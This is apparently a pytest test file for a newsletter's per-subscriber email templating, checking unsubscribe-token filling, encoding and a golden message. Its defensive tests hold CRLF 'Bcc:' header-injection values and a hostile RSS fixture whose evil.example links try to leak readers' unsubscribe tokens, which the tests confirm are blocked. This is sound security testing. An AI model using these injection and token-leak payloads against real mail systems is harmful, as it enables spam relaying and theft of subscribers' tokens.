"""The per-subscriber message: byte-level fill-in of a message encoded once, and its golden file."""

from __future__ import annotations

import email
import os
import re
from datetime import UTC, datetime
from email.message import EmailMessage
from email.policy import default
from pathlib import Path

from newsletter.config import Settings, load_settings
from newsletter.issues.feed import parse_feed
from newsletter.issues.placeholder import UNSUBSCRIBE_URL
from newsletter.issues.render import render_issue
from newsletter.mail.message import MessageTemplate, message_date, unsubscribe_url
from tests.support.helpers import BASE_ENV, SAMPLE_FEED

GOLDEN = Path(__file__).resolve().parents[1] / "data" / "golden" / "sample-issue.eml"


def _settings(tmp_path: Path) -> Settings:
    return load_settings(environ=BASE_ENV, env_file=tmp_path / "none")


def _template(settings: Settings, html: str, text: str, subject: str = "Hello") -> MessageTemplate:
    return MessageTemplate(settings, subject=subject, html=html, text=text, issue_id=1)


def _parse(data: bytes) -> EmailMessage:
    msg = email.message_from_bytes(data, policy=default)
    assert isinstance(msg, EmailMessage)
    return msg


def _fill(
    template: MessageTemplate,
    to: str = "reader@example.org",
    name: str | None = None,
    token: str = "TOKEN1234567890abcdefgh",
) -> bytes:
    return template.personalise(
        to,
        name,
        token,
        message_id="<1.2@endseclusion.org>",
        date=message_date(datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)),
    )


def test_placeholder_in_a_very_long_line_is_filled_exactly(tmp_path: Path) -> None:
    settings = _settings(tmp_path)
    long_line = "x" * 3000 + f'<a href="{UNSUBSCRIBE_URL}">Unsubscribe</a>' + "é" * 500
    template = _template(
        settings, f"<html><body>{long_line}</body></html>", f"Unsubscribe: {UNSUBSCRIBE_URL}\n"
    )
    data = _fill(template)
    body = data.split(b"\r\n\r\n", 1)[1]
    assert all(len(line) <= 76 for line in body.split(b"\r\n"))  # QP lines stay short
    assert b"\n" not in body.replace(b"\r\n", b"")
    msg = _parse(data)
    url = unsubscribe_url(settings, "TOKEN1234567890abcdefgh")
    html = msg.get_body(("html",)).get_content()
    assert f'<a href="{url}">Unsubscribe</a>' in html
    assert html.endswith("é" * 500 + "</body></html>") or "é" * 500 in html
    assert msg.get_body(("plain",)).get_content().strip() == f"Unsubscribe: {url}"
    assert msg["List-Unsubscribe"] == f"<{url}>"


def test_every_occurrence_is_filled_and_text_stays_utf8(tmp_path: Path) -> None:
    settings = _settings(tmp_path)
    template = _template(
        settings,
        f"<p>{UNSUBSCRIBE_URL} · {UNSUBSCRIBE_URL}</p>",
        f"a {UNSUBSCRIBE_URL}\nb {UNSUBSCRIBE_URL}\n“quotes” ✊\n",
    )
    msg = _parse(_fill(template))
    url = unsubscribe_url(settings, "TOKEN1234567890abcdefgh")
    assert msg.get_body(("html",)).get_content().count(url) == 2
    text = msg.get_body(("plain",)).get_content()
    assert text.count(url) == 2 and "“quotes” ✊" in text


def test_non_ascii_name_is_encoded_and_cannot_inject_headers(tmp_path: Path) -> None:
    template = _template(_settings(tmp_path), f"<p>{UNSUBSCRIBE_URL}</p>", UNSUBSCRIBE_URL)
    data = _fill(template, name="Siobhán O'Brien\r\nBcc: victim@example.com")
    headers = data.split(b"\r\n\r\n", 1)[0]
    assert headers.isascii()
    assert b"\r\nBcc:" not in headers
    msg = _parse(data)
    assert msg["To"].addresses[0].addr_spec == "reader@example.org"
    assert msg["To"].addresses[0].display_name.startswith("Siobhán O'Brien")


def test_subject_with_line_breaks_is_one_line(tmp_path: Path) -> None:
    template = _template(
        _settings(tmp_path),
        UNSUBSCRIBE_URL,
        UNSUBSCRIBE_URL,
        subject="Line one\r\nBcc: x@y.z\u2028three",
    )
    msg = _parse(_fill(template))
    assert msg["Subject"] == "Line one Bcc: x@y.z three"
    assert msg["Bcc"] is None


def test_each_message_gets_its_own_message_id(tmp_path: Path) -> None:
    template = _template(_settings(tmp_path), UNSUBSCRIBE_URL, UNSUBSCRIBE_URL)
    ids = {template.new_message_id() for _ in range(1000)}
    assert len(ids) == 1000
    assert all(i.endswith("@endseclusion.org>") for i in ids)


def _normalise(data: bytes, boundary: str) -> bytes:
    """Blank out what changes per run: boundary, Message-ID, Date, tokens."""
    data = data.replace(boundary.encode(), b"BOUNDARY")
    data = re.sub(rb"Message-ID: <[^>]+>", b"Message-ID: <ID@endseclusion.org>", data)
    data = re.sub(rb"Date: [^\r]+", b"Date: DATE", data)
    return data


def test_golden_sample_issue(tmp_path: Path) -> None:
    """The whole email of the bundled sample feed, byte for byte (UPDATE_GOLDEN=1 rewrites)."""
    settings = _settings(tmp_path)
    feed = parse_feed(SAMPLE_FEED.read_bytes(), base_url="https://endseclusion.org/feed/")
    rendered = render_issue(
        feed.stories, settings, issue_id=1, feed_title=feed.title, feed_link=feed.link
    )
    template = MessageTemplate(
        settings, subject=rendered.subject, html=rendered.html, text=rendered.text, issue_id=1
    )
    data = _normalise(_fill(template, name="Siobhán O'Brien"), template.boundary)
    if os.environ.get("UPDATE_GOLDEN") == "1" or not GOLDEN.exists():
        GOLDEN.write_bytes(data)
    assert data == GOLDEN.read_bytes()
    msg = _parse(data)
    assert msg["Subject"].startswith("Supporting Youth in Residential Care")
    assert len(msg.get_body(("html",)).get_content().encode()) < 100_000  # Gmail clips at ~102 KB


# -- feed text cannot steal a reader's unsubscribe token (issue 11.3) ----------------

_PLAUSIBLE = (
    "%%UNSUBSCRIBE_URL%%",
    "%%UNSUBSCRIBE_URL_" + "0" * 32 + "%%",
    "{{ unsubscribe_url }}",
)
_HOSTILE_FEED = """<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel>
<title>AASR</title><link>https://endseclusion.org/</link>
<item><title>Win {p0} {p1} {p2}</title><link>https://endseclusion.org/win/</link><guid>w1</guid>
<description><![CDATA[<!--newsletter-placeholder:{key}-->
<p>Read <a href="https://evil.example/a?t={p0}">this</a> {p1}
<img src="https://evil.example/i.png?t={p0}&amp;u={p1}" alt="x"></p>]]></description>
</item></channel></rss>"""


def test_feed_text_holding_placeholders_never_gets_a_readers_link(tmp_path: Path) -> None:
    settings = _settings(tmp_path)
    xml = _HOSTILE_FEED.format(p0=_PLAUSIBLE[0], p1=_PLAUSIBLE[1], p2=_PLAUSIBLE[2], key="0" * 32)
    feed = parse_feed(xml.encode(), base_url="https://endseclusion.org/feed/")
    rendered = render_issue(
        feed.stories, settings, issue_id=1, feed_title=feed.title, feed_link=feed.link
    )
    template = MessageTemplate(
        settings, subject=rendered.subject, html=rendered.html, text=rendered.text, issue_id=1
    )
    token = "ReaderA-token-0123456789abcdef"
    msg = _parse(_fill(template, to="a@example.org", token=token))
    link = unsubscribe_url(settings, token)
    assert msg["List-Unsubscribe"] == f"<{link}>"
    assert token not in msg["Subject"]
    html = msg.get_body(("html",)).get_content()
    text = msg.get_body(("plain",)).get_content()
    for body in (html, text):
        assert token in body  # the footer's visible link
        story_end = body.rindex("Win")
        if "evil.example" in body:
            story_end = max(story_end, body.rindex("evil.example"))
        assert body.index(token) > story_end  # only after the story: the footer
        assert body.count(link) == body.count(token)  # never inside another URL
    assert "%%UNSUBSCRIBE_URL%%" in html and "%%UNSUBSCRIBE_URL%%" in text  # left as written
    assert "newsletter-placeholder" not in html


def test_an_issue_frozen_with_the_old_fixed_placeholder_still_sends(tmp_path: Path) -> None:
    """Issues stored before per-issue placeholders: the fixed one is filled as before."""
    html = f'<html><body><p>Hi</p><a href="{UNSUBSCRIBE_URL}">Unsubscribe</a></body></html>'
    template = _template(_settings(tmp_path), html, f"Hi\nUnsubscribe: {UNSUBSCRIBE_URL}\n")
    msg = _parse(_fill(template, token="OldIssueToken0123456789"))
    link = unsubscribe_url(_settings(tmp_path), "OldIssueToken0123456789")
    assert f'href="{link}"' in msg.get_body(("html",)).get_content()
    assert f"Unsubscribe: {link}" in msg.get_body(("plain",)).get_content()
    assert b"%%" not in _fill(template)
